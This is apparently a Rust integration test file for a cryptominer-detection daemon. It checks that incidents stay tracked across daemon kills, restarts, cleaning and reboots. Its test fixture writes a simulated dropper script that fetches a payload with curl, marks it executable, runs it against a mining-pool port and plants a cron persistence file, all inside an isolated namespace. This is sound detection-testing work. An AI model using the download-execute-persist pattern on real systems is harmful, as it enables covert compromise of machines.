//! The daemon is killed and started again: the incidents go on, and nothing is opened twice.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use minerwatch_tests::{
    Scratch,
    agent::{Agent, at},
    command, executable,
    namespace::{Pair, Server},
    notes::note,
};
use rustix::process::Signal;
use serde_json::Value;

use crate::{SOON, configuration, daemon, machine, machine_for_long};

/// A dropper whose program is started again and again, between two hosts.
struct Intrusion {
    pair: Pair,
    _servers: [Server; 2],
    scratch: Scratch,
    dropped: String,
    script: String,
}

impl Intrusion {
    fn prepare(subnet: u8) -> Self {
        let scratch = Scratch::new();
        let pair = Pair::new(subnet);
        let share = scratch.join("share");
        fs::create_dir(&share).expect("a directory can be made");
        fs::copy(executable("simulator"), format!("{share}/payload")).expect("the payload can be copied");
        let address = &pair.server.address;
        let web = pair.server.serve(8000, "python3", &["-m", "http.server", "8000", "--directory", &share]);
        let pool = pair.server.serve(9000, "python3", &[
            "-c",
            "import socket\ns=socket.create_server(('0.0.0.0',9000))\nkept=[]\nwhile True: kept.append(s.accept())",
        ]);
        let dropped = format!("/tmp/.{}", minerwatch_tests::unique("dropped"));
        let script = scratch.join("intrusion.sh");
        // The script mounts an empty crontab directory in its own mount namespace, so that the host stays clean.
        fs::write(
            &script,
            format!(
                "mount -t tmpfs none /etc/cron.d\n\
                 curl -s -o {dropped} http://{address}:8000/payload\n\
                 chmod +x {dropped}\n\
                 while [ -e {share} ]; do {dropped} infect {address}:9000 /etc/cron.d/sync 2; done\n"
            ),
        )
        .expect("a script can be written");
        Self { pair, _servers: [web, pool], scratch, dropped, script }
    }

    fn start(&self) -> Child {
        self.pair
            .victim
            .command("unshare", &["--mount", "sh", &self.script])
            .stdout(Stdio::null())
            .spawn()
            .expect("it starts")
    }

    /// Ends the script, which waits for the dropped program.
    fn end(&self, mut child: Child) {
        let share = self.scratch.join("share");
        fs::rename(&share, self.scratch.join("gone")).expect("a directory can be renamed");
        child.wait().expect("our child");
        fs::rename(self.scratch.join("gone"), &share).expect("a directory can be renamed");
    }

    /// Returns whether a process of a suspect is alive, for each suspect of an incident in the state file.
    fn stored(&self, id: &Value) -> Vec<bool> {
        let text = fs::read_to_string(self.scratch.join("state/incidents.json")).expect("the state file");
        let file: Value = serde_json::from_str(&text).expect("JSON");
        let number = |value: &Value| value.as_u64().expect("a number");
        let name = |incident: &Value| {
            let origin = at(incident, "id.origin");
            let parts = [&origin["pid"], &origin["start_ticks"], at(incident, "id.opened")];
            parts.map(|part| format!("{:x}", number(part))).join("-")
        };
        let incidents = file["state"]["incidents"].as_array().expect("incidents");
        let incident = incidents.iter().find(|incident| *id == name(incident)).expect("it is stored");
        let suspects = incident["suspects"].as_object().expect("suspects");
        let alive = |suspect: &Value| {
            suspect["runs"].as_array().is_some_and(|runs| runs.iter().any(|run| run["alive"] == true))
        };
        suspects.values().map(alive).collect()
    }
}

impl Drop for Intrusion {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.dropped);
    }
}

/// Returns whether an object is an alert about an incident. The alert about a killed daemon is not.
fn is_alert(object: &Value) -> bool {
    at(object, "event.kind") == "alert" && at(object, "event.action") != "sensor-degraded"
}

/// Starts the daemon and keeps only its alerts.
fn start(path: &str) -> Agent {
    let mut command = Command::new(executable("minerwatch"));
    command.args(["run", "--config", path]);
    Agent::start_keeping(command, |line| line.contains("\"kind\":\"alert\""))
}

/// Waits for the alert whose chain has the cron job of the intrusion.
fn persistence(agent: &Agent) -> Value {
    agent.wait_for("persistence", SOON, |object| {
        is_alert(object) && object["minerwatch"]["chain"].to_string().contains("/etc/cron.d/sync")
    })
}

/// Kills the daemon and returns its alerts.
fn kill(mut agent: Agent) -> Vec<Value> {
    agent.signal(Signal::KILL);
    agent.wait(Duration::from_secs(20)).expect("SIGKILL ends it");
    // The collecting thread needs a moment to read the rest of the pipe.
    thread::sleep(Duration::from_millis(50));
    agent.objects().into_iter().filter(is_alert).collect()
}

fn actions(alerts: &[Value]) -> Vec<String> {
    let word = |alert: &Value, path| at(alert, path).as_str().unwrap_or_default().to_owned();
    alerts
        .iter()
        .map(|alert| {
            let (action, reason) = (word(alert, "event.action"), word(alert, "minerwatch.reason"));
            let id = word(alert, "minerwatch.incident.id");
            format!("{id} {action} {reason}: {}", word(alert, "message"))
        })
        .collect()
}

fn about<'a>(alerts: &'a [Value], id: &Value) -> Vec<&'a Value> {
    alerts.iter().filter(|alert| at(alert, "minerwatch.incident.id") == id).collect()
}

fn of_intrusion(alerts: &[Value], dropped: &str) -> Value {
    let found = alerts.iter().find(|alert| {
        alert["minerwatch"]["suspects"]
            .as_array()
            .is_some_and(|all| all.iter().any(|suspect| suspect.to_string().contains(dropped)))
    });
    at(
        found.unwrap_or_else(|| panic!("no incident of {dropped}: {:?}", actions(alerts))),
        "minerwatch.incident.id",
    )
    .clone()
}

/// Kills the daemon `kills` times at random moments after it is ready, and checks all alerts together.
fn survives(test_subnet: u8, kills: u32, mut seed: u64) {
    let intrusion = Intrusion::prepare(test_subnet);
    let path = configuration(&intrusion.scratch, "");
    let mut random = move |below: u64| {
        // xorshift64
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed % below
    };
    let begin = Instant::now();
    let mut alerts = Vec::new();
    let mut agent = start(&path);
    let child = intrusion.start();
    agent.wait_for("opening", SOON, is_alert);
    for _ in 0..kills {
        thread::sleep(Duration::from_millis(random(900)));
        alerts.extend(kill(agent));
        agent = start(&path);
    }
    intrusion.end(child);
    agent.find(Duration::from_millis(1_500), |_| false);
    alerts.extend(agent.stop().into_iter().filter(is_alert));
    note(&format!("{kills} kills in {:?}: {:#?}", begin.elapsed(), actions(&alerts)));

    let id = of_intrusion(&alerts, &intrusion.dropped);
    let own = about(&alerts, &id);
    // Each incident is opened once. A line that a kill interrupted comes again with the same id.
    let mut opened: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for alert in alerts.iter().filter(|alert| at(alert, "event.action") == "incident-opened") {
        let id = at(alert, "minerwatch.incident.id").to_string();
        opened.entry(id).or_default().insert(at(alert, "event.id").to_string());
    }
    assert!(opened.values().all(|ids| ids.len() == 1), "{opened:?}");
    let first = own.first().map(|alert| at(alert, "event.action"));
    assert!(first.is_some_and(|first| first == "incident-opened"), "{:#?}", actions(&alerts));
    let goes_on = |alert: &&&Value| at(alert, "event.action") == "incident-updated";
    assert!(own.iter().filter(goes_on).count() > 0, "it goes on: {:#?}", actions(&alerts));
    let alive = intrusion.stored(&id);
    assert!(!alive.is_empty() && alive.iter().all(|alive| !alive), "{alive:?}");
}

#[test]
fn a_kill_is_reported_by_the_next_daemon() {
    let Some(_machine) = machine("a_kill_is_reported_by_the_next_daemon") else { return };
    let scratch = Scratch::new();
    let path = configuration(&scratch, "");
    let degraded = |objects: Vec<Value>| -> Vec<Value> {
        objects.into_iter().filter(|object| at(object, "event.action") == "sensor-degraded").collect()
    };
    let first = start(&path);
    let pid = first.pid();
    kill(first);

    let second = start(&path);
    second.wait_for("killed", SOON, |object| at(object, "minerwatch.agent.reason") == "killed");
    assert_eq!(daemon(&scratch)["degraded"][0], "killed");
    let reported = degraded(second.stop());
    assert_eq!(reported.len(), 1, "{reported:#?}");
    assert_eq!(at(&reported[0], "event.severity"), 75, "{reported:#?}");
    let message = reported[0]["message"].as_str().expect("a sentence");
    assert!(message.contains(&format!("process id {pid})")), "{message}");

    // The second one was ended by SIGTERM.
    let third = start(&path);
    third.find(Duration::from_millis(1_500), |_| false);
    let reported = degraded(third.stop());
    assert!(reported.is_empty(), "{reported:#?}");
}

#[test]
fn an_incident_survives_kills() {
    let Some(_machine) = machine("an_incident_survives_kills") else { return };
    survives(61, 3, 0x9e37_79b9_7f4a_7c15);
}

#[test]
fn an_incident_survives_many_kills() {
    let Some(_machine) = machine_for_long("an_incident_survives_many_kills") else { return };
    survives(62, 20, 0x2545_f491_4f6c_dd1d);
}

#[test]
fn an_intrusion_that_ended_meanwhile_is_not_alive() {
    let Some(_machine) = machine("an_intrusion_that_ended_meanwhile_is_not_alive") else { return };
    let intrusion = Intrusion::prepare(63);
    let path = configuration(&intrusion.scratch, "");
    let agent = start(&path);
    let child = intrusion.start();
    persistence(&agent);
    let alerts = kill(agent);
    let id = of_intrusion(&alerts, &intrusion.dropped);
    intrusion.end(child);

    // The intrusion ended while no daemon ran.
    let agent = start(&path);
    assert!(agent.says("incidents of the earlier run: ", SOON), "{:?}", agent.messages());
    assert!(daemon(&intrusion.scratch)["engine"]["incidents_restored"].as_u64() >= Some(1));
    // What the kill interrupted may still be told, but nothing goes on.
    let later = agent.stop();
    let goes_on = |alert: &&Value| {
        let reason = at(alert, "minerwatch.reason");
        reason == "resumed" || reason == "returned"
    };
    let going_on = about(&later, &id).into_iter().filter(goes_on).count();
    assert_eq!(going_on, 0, "{:#?} after {:#?}", actions(&later), actions(&alerts));
    let alive = intrusion.stored(&id);
    assert!(!alive.is_empty() && alive.iter().all(|alive| !alive), "{alive:?}");

    // It starts again while the daemon is down.
    let child = intrusion.start();
    let until = Instant::now() + SOON;
    while command::try_run("pgrep", &["-f", &format!("^{} infect", intrusion.dropped)]).stdout.is_empty() {
        assert!(Instant::now() < until, "the dropped program runs");
        thread::sleep(Duration::from_millis(20));
    }
    let agent = start(&path);
    let back = agent.wait_for("its return", SOON, |object| *at(object, "minerwatch.incident.id") == id);
    assert_eq!(at(&back, "event.action"), "incident-updated", "{back:#}");
    assert_eq!(at(&back, "minerwatch.reason"), "returned", "{back:#}");
    intrusion.end(child);
    agent.stop();

    // Another boot: the incidents have ended.
    let file = intrusion.scratch.join("state/incidents.json");
    let stored = fs::read_to_string(&file).expect("it was stored");
    let boot_id = fs::read_to_string("/proc/sys/kernel/random/boot_id").expect("a boot id");
    fs::write(&file, stored.replace(boot_id.trim(), "00000000-0000-4000-8000-000000000000"))
        .expect("it can be replaced");
    let agent = start(&path);
    let closed = agent.wait_for("the end", SOON, |object| *at(object, "minerwatch.incident.id") == id);
    assert_eq!(at(&closed, "event.action"), "incident-closed", "{closed:#}");
    assert_eq!(at(&closed, "minerwatch.reason"), "ended", "{closed:#}");
    kill(agent);

    fs::write(&file, "{").expect("it can be damaged");
    let agent = start(&path);
    assert!(agent.says("the earlier incidents are not known", SOON), "{:?}", agent.messages());
    agent.stop();
}

/// Runs `minerwatch watch-clean` about an incident. Returns its output as JSON, or the error.
fn watch_clean(intrusion: &Intrusion, id: &Value) -> Result<Value, String> {
    let socket = intrusion.scratch.join("control.sock");
    let id = id.as_str().expect("an id");
    let program = executable("minerwatch");
    let output =
        command::try_run(&program.to_string_lossy(), &["watch-clean", id, "--json", "--socket", &socket]);
    if output.status.success() {
        Ok(serde_json::from_slice(&output.stdout).expect("one object"))
    } else {
        Err(String::from_utf8_lossy(&output.stderr).into_owned())
    }
}

#[test]
fn a_cleaned_incident_that_returns_is_opened_again() {
    let Some(_machine) = machine("a_cleaned_incident_that_returns_is_opened_again") else { return };
    let intrusion = Intrusion::prepare(65);
    let path = configuration(&intrusion.scratch, "");
    let agent = start(&path);
    let child = intrusion.start();
    let alert = persistence(&agent);
    let id = at(&alert, "minerwatch.incident.id").clone();
    let refused = watch_clean(&intrusion, &id).expect_err("it runs");
    assert!(refused.contains("still runs") && refused.contains(&intrusion.dropped), "{refused}");

    intrusion.end(child);
    // The daemon learns of the end with the next records.
    let until = Instant::now() + SOON;
    let watched = loop {
        match watch_clean(&intrusion, &id) {
            Ok(watched) => break watched,
            Err(error) => assert!(Instant::now() < until, "{error}"),
        }
        thread::sleep(Duration::from_millis(50));
    };
    assert!(watched["programs"].to_string().contains(&intrusion.dropped), "{watched:#}");
    assert_eq!(watched["places"], serde_json::json!(["/etc/cron.d/sync"]), "{watched:#}");
    agent.wait_for("its end", SOON, |object| {
        *at(object, "minerwatch.incident.id") == id && at(object, "event.action") == "incident-closed"
    });
    assert_eq!(daemon(&intrusion.scratch)["engine"]["incidents_watched"], 1);
    kill(agent);

    let agent = start(&path);
    assert_eq!(daemon(&intrusion.scratch)["engine"]["incidents_watched"], 1, "a kill does not end the watch");
    let child = intrusion.start();
    let back = agent.wait_for("its return", SOON, |object| *at(object, "minerwatch.incident.id") == id);
    assert_eq!(at(&back, "event.action"), "incident-opened", "{back:#}");
    assert_eq!(at(&back, "minerwatch.reason"), "returned", "{back:#}");
    intrusion.end(child);
    agent.stop();
}
